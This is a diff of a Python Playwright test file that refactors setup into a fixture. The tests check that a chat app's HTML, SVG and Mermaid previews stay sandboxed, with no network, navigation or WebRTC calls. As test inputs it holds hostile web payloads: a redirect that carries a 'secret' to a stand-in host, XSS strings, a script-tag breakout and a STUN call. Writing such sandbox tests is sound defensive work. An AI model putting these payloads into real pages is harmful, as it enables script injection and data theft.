@@ -19,14 +19,24 @@ fetch('https://elsewhere.example/').catch(() => found.push('no network')).then((
 SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><title>A disc</title><circle cx="5" cy="5" r="4"/></svg>'
 
 
-def test_html_runs_in_a_frame_without_origin_and_network(wired, stage, page_watch, audit) -> None:
-    page_watch.forgive()  # what the frame tries is refused, which the console says
-    chat = wired()[0].open()
-    page = chat.page
-    with stage.by_hand() as next_answer:
-        chat.start("A page, please.")
-        next_answer().finish(f"```html\n{HTML}\n```\n\n```svg\n{SVG}\n```\n\n```python\nprint(1)\n```")
-    chat.wait_done()
+@pytest.fixture
+def answered(wired, stage, page_watch):
+    """A function that opens a chat with one answer, and returns it."""
+    page_watch.forgive()  # what a frame tries is refused, which the console says
+
+    def open_chat(markdown: str):
+        chat = wired()[0].open()
+        with stage.by_hand() as next_answer:
+            chat.start("A page, please.")
+            next_answer().finish(markdown)
+        chat.wait_done()
+        return chat
+
+    return open_chat
+
+
+def test_html_runs_in_a_frame_without_origin_and_network(answered, page_watch, audit) -> None:
+    page = answered(f"```html\n{HTML}\n```\n\n```svg\n{SVG}\n```\n\n```python\nprint(1)\n```").page
     buttons = page.get_by_role("button", name="Preview")
     expect(buttons).to_have_count(2)
     buttons.first.click()
@@ -41,29 +51,17 @@ def test_html_runs_in_a_frame_without_origin_and_network(wired, stage, page_watc
     expect(page.frame_locator("iframe").locator("circle")).to_be_visible()
 
 
-def test_a_frame_cannot_lead_elsewhere(wired, stage, page_watch) -> None:
-    page_watch.forgive()
-    chat = wired()[0].open()
-    page = chat.page
-    with stage.by_hand() as next_answer:
-        chat.start("A page, please.")
-        away = "<p>here</p><script>location = 'https://elsewhere.example/?secret'; open('https://elsewhere.example/')</script>"
-        next_answer().finish(f"```html\n{away}\n```")
-    chat.wait_done()
+def test_a_frame_cannot_lead_elsewhere(answered) -> None:
+    away = "<p>here</p><script>location = 'https://elsewhere.example/?secret'; open('https://elsewhere.example/')</script>"
+    page = answered(f"```html\n{away}\n```").page
     with page.expect_console_message(lambda message: "frame" in message.text.lower()):
         page.get_by_role("button", name="Preview").click()
     assert len(page.context.pages) == 1
 
 
-def test_a_diagram_is_drawn_without_network_and_what_is_none_is_said(wired, stage, page_watch, audit) -> None:
-    page_watch.forgive()
-    chat = wired()[0].open()
-    page = chat.page
+def test_a_diagram_is_drawn_without_network_and_what_is_none_is_said(answered, page_watch, audit) -> None:
     flow = 'flowchart LR\n  A[Low tide] --> B["<img src=x onerror=alert(1)>High?"]\n  click A href "javascript:alert(1)"'
-    with stage.by_hand() as next_answer:
-        chat.start("A diagram, please.")
-        next_answer().finish(f"```mermaid\n{flow}\n```\n\n```mermaid\nno such </pre><script>diagram\n```")
-    chat.wait_done()
+    page = answered(f"```mermaid\n{flow}\n```\n\n```mermaid\nno such </pre><script>diagram\n```").page
     buttons = page.get_by_role("button", name="Preview")
     expect(buttons).to_have_count(2)
     buttons.first.click()
@@ -76,11 +74,8 @@ def test_a_diagram_is_drawn_without_network_and_what_is_none_is_said(wired, stag
     assert audit(page) == [] and page_watch.foreign == []
 
 
-def test_a_frame_cannot_call_anybody(wired, stage, page_watch) -> None:
+def test_a_frame_cannot_call_anybody(answered) -> None:
     """WebRTC asks any host that a page names, and no browser lets a content security policy forbid it."""
-    page_watch.forgive()
-    chat = wired()[0].open()
-    page = chat.page
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as elsewhere:
         elsewhere.bind(("127.0.0.1", 0))
         server = f"{{iceServers: [{{urls: 'stun:127.0.0.1:{elsewhere.getsockname()[1]}'}}]}}"
@@ -93,10 +88,7 @@ def test_a_frame_cannot_call_anybody(wired, stage, page_watch) -> None:
           call.createOffer().then(offer => call.setLocalDescription(offer));
         }} catch {{ said('no calls') }}
         </script>"""
-        with stage.by_hand() as next_answer:
-            chat.start("A page, please.")
-            next_answer().finish(f"```html\n{call}\n```")
-        chat.wait_done()
+        page = answered(f"```html\n{call}\n```").page
         with page.expect_response("**/sandbox") as response:
             page.get_by_role("button", name="Preview").click()
         expect(page.frame_locator("iframe").locator("#said")).to_have_text("no calls")
@@ -118,16 +110,11 @@ NESTED = {
 
 @pytest.mark.parametrize("how", NESTED)
 def test_a_frame_within_the_frame_cannot_call_anybody_either_and_the_page_lives_on(
-    how: str, wired, stage, page_watch
+    how: str, answered
 ) -> None:
     """Chromium ends the tab of a page in which a frame calls somebody whom its policy forbids."""
-    page_watch.forgive()
-    chat = wired()[0].open()
+    chat = answered(f"```html\n<body><h1>Shown</h1>{NESTED[how]}\n```")
     page = chat.page
-    with stage.by_hand() as next_answer:
-        chat.start("A page, please.")
-        next_answer().finish(f"```html\n<body><h1>Shown</h1>{NESTED[how]}\n```")
-    chat.wait_done()
     page.get_by_role("button", name="Preview").click()
     expect(page.frame_locator("iframe").get_by_role("heading", name="Shown")).to_be_visible()
     for frame in page.frames:
